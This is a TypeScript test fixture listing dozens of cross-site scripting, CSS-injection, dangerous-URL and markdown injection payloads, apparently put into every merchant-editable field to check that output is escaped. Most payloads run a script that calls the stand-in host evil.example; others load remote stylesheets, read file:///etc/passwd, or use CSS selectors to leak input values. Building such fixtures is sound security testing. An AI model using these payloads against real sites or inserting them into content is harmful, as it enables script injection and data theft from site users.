/**
 * What a merchant, or an attacker with their account, might put into a field
 * (docs/contract/invariants.md#32).
 */
const RUN = "window.__ran=1;fetch('https://evil.example/ran')";
const LOAD = 'https://evil.example/css';

/** Runs if it isn't escaped. */
export const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror="${RUN}">`,
  `--><img src=x onerror="${RUN}">`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<body onload="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="${LOAD}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/ran">`,
  `<form action="https://evil.example/ran"><button>x</button></form>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `" style="background:url(${LOAD})" x="`,
  `" srcset="https://evil.example/css 1x" x="`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u2028</script><script>${RUN}</script>`,
  `<scr\u0001ipt>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://https://x%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}" xmlns="http://www.w3.org/2000/svg"/>`,
  `vbscript:${RUN}`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `//evil.example/css`,
  `https://user:password@evil.example/css`,
  `https://evil.example/" onerror="${RUN}`,
  `https://evil.example/' onerror='${RUN}`,
  `https://evil.example/><script>${RUN}</script>`,
  `https://evil.example/, javascript:${RUN} 2x`,
  `https://evil.example/);}*{background:url(${LOAD})`,
  `a@x.example?bcc=all@evil.example&body=${RUN}`,
];

const STYLES = [
  `#fff;}*{background:url(${LOAD})}`,
  `#fff}</style><script>${RUN}</script>`,
  `#fff;--x:url(${LOAD})`,
  `#fff/*`,
  `*/}*{background:url(${LOAD})}/*`,
  `url(${LOAD})`,
  `expression(${RUN})`,
  `#fff\\;background:url(${LOAD})`,
  `\\3c/style><script>${RUN}</script>`,
  `@import "${LOAD}";`,
  `8px;}@import url(${LOAD});{`,
  `8px}input[value^="a"]{background:url(${LOAD})}`,
  `var(--x,url(${LOAD}))`,
  `image-set("${LOAD}" 1x)`,
  `calc(1px + 1px)`,
  `8px"><script>${RUN}</script>`,
  `#FFF\n}*{background:url(${LOAD})}`,
  `\u0000#fff;}*{background:url(${LOAD})}`.replace('\u0000', '\ufffd'),
];

const MARKDOWN = [
  `[a](javascript:${encodeURI(RUN)})`,
  `[a](&#106;avascript:${encodeURI(RUN)})`,
  `[a](java&Tab;script:${encodeURI(RUN)})`,
  `[a]( <javascript:${RUN}> )`,
  `[a]: javascript:${encodeURI(RUN)}\n\n[a]`,
  `<javascript:${encodeURI(RUN)}>`,
  `![a](javascript:${encodeURI(RUN)})`,
  `![a" onerror="${RUN}](https://evil.example/x)`,
  `[a](https://evil.example "x\\" onmouseover=\\"${RUN}")`,
  `\`\`\`x" onload="${RUN}\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`</code><script>${RUN}</script>\``,
  `|a|\n|:-:|\n|<img src=x onerror="${RUN}">|`,
  `- <svg/onload=${RUN}>`,
  `# </h1><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<!--\n--><script>${RUN}</script>`,
  `[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)`,
  `<a href="https://evil.example" onclick="${RUN}">a</a>`,
];

/** Every payload is put into every field: what is harmless in one place may not be in another. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...ADDRESSES, ...STYLES, ...MARKDOWN];
